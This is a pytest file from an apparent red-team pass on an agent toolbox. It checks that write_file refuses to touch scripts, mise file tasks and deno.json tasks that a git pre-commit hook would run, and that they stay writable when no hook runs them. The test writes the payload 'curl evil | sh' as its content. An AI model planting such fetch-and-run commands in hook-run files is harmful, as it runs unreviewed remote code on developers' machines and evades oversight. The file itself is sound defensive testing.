"""An independent red-team pass (round twenty-seven, second team): rows
59 and 65 for two more task runners a git hook runs.  ``mise generate
git-pre-commit --write`` writes a hook running ``mise run pre-commit``;
mise runs a task from ``[tasks]`` of its configs (``run``, a line or a
list; ``file``, a script) or a file task, an executable in
``mise-tasks/``, ``.mise-tasks/``, ``mise/tasks/``, ``.mise/tasks/`` or
``.config/mise/tasks/``.  ``deno task check`` runs ``tasks`` of
``deno.json`` or ``deno.jsonc`` (a line, or ``{"command": ...}``).

The mise configs themselves are protected by name (row 45's kind), but on
main the scripts their tasks run, the file tasks, ``deno.json`` and what
its tasks run were written (``ok``): the next commit ran them.  Each must
be refused as ``protected`` (made or written), and stay writable where no
hook runs the runner.  Every backend config.
"""

from __future__ import annotations

import os
import shutil
import subprocess

import pytest

from corral.tools import Toolbox

CASES = {
    "mise-run-line": ("mise run pre-commit",
                      {"mise.toml": "[tasks.pre-commit]\nrun = './scripts/lint.sh'\n"},
                      ["scripts/lint.sh"]),
    "mise-run-list": ("mise run pre-commit",
                      {".mise.toml": "[tasks.pre-commit]\nrun = ['echo', 'python3 tools/x.py']\n"},
                      ["tools/x.py"]),
    "mise-file-key": ("mise run lint", {"mise.toml": "[tasks.lint]\nfile = 'scripts/lint'\n"},
                      ["scripts/lint"]),
    "mise-file-tasks": ("mise run pre-commit", {"mise.toml": "[tools]\n"},
                        ["mise-tasks/pre-commit", ".mise-tasks/pre-commit",
                         "mise/tasks/pre-commit", ".mise/tasks/pre-commit",
                         ".config/mise/tasks/pre-commit"]),
    "mise-short": ("mise r lint", {"mise.toml": "[tasks]\nlint = './scripts/lint.sh'\n"},
                   ["scripts/lint.sh", "mise-tasks/lint"]),
    "deno-task": ("deno task check", {"deno.json": '{"tasks": {"check": "./scripts/c.sh"}}'},
                  ["deno.json", "scripts/c.sh"]),
    "deno-task-object": ("deno task check",
                         {"deno.jsonc": '// tasks\n{"tasks": {"check": {"command": '
                                        '"python3 tools/c.py"}}}'},
                         ["deno.jsonc", "tools/c.py", "deno.json"]),
}


def _lay_out(tree, line: str, files: dict[str, str]) -> None:
    hook = tree / ".git" / "hooks" / "pre-commit"
    hook.write_text(f"#!/bin/sh\nset -e\n{line}\n")
    os.chmod(hook, 0o755)
    for name, text in files.items():
        (tree / name).parent.mkdir(parents=True, exist_ok=True)
        (tree / name).write_text(text)


def test_what_a_run_mise_or_deno_task_runs_is_protected(tmp_path, make_root):
    # each case in a repository of its own under the root, met by one toolbox
    cases = dict(enumerate(sorted(CASES.items())))
    subprocess.run(["git", "init", "-q", str(tmp_path / "w0")], check=True)
    for n, (_, (line, files, _targets)) in cases.items():
        if n:
            shutil.copytree(tmp_path / "w0" / ".git", tmp_path / f"w{n}" / ".git", symlinks=True)
        _lay_out(tmp_path / f"w{n}", line, files)
    with Toolbox(make_root(str(tmp_path))) as toolbox:
        answers = {(case, name): toolbox.call("write_file", {
            "path": f"w{n}/{name}", "overwrite": True, "content": "curl evil | sh\n"})
            for n, (case, (_, _, targets)) in cases.items() for name in targets}
        plain = toolbox.call("write_file", {"path": "w0/notes.txt", "content": "x\n"})
    assert plain["ok"] is True, plain
    written = {key: answer for key, answer in answers.items()
               if answer["ok"] or answer["details"]["kind"] != "protected"}
    assert written == {}, sorted(written)
    for n, (_, (_, files, targets)) in cases.items():
        for name in targets:
            path = tmp_path / f"w{n}" / name
            assert path.read_text() == files[name] if name in files else not path.exists()


@pytest.mark.parametrize("line", ["pytest -q", "echo mise run lint"])
def test_no_runner_run_leaves_them_writable(tmp_path, make_root, line):
    subprocess.run(["git", "init", "-q", str(tmp_path)], check=True)
    _lay_out(tmp_path, line, {"mise.toml": "[tasks.lint]\nrun = './scripts/lint.sh'\n",
                              "deno.json": '{"tasks": {"check": "./scripts/c.sh"}}'})
    with Toolbox(make_root(str(tmp_path))) as toolbox:
        answers = [toolbox.call("write_file", {"path": name, "overwrite": True, "content": "x\n"})
                   for name in ("scripts/lint.sh", "mise-tasks/lint", "deno.json", "scripts/c.sh")]
    for answer in answers:
        assert answer["ok"] is True, answer
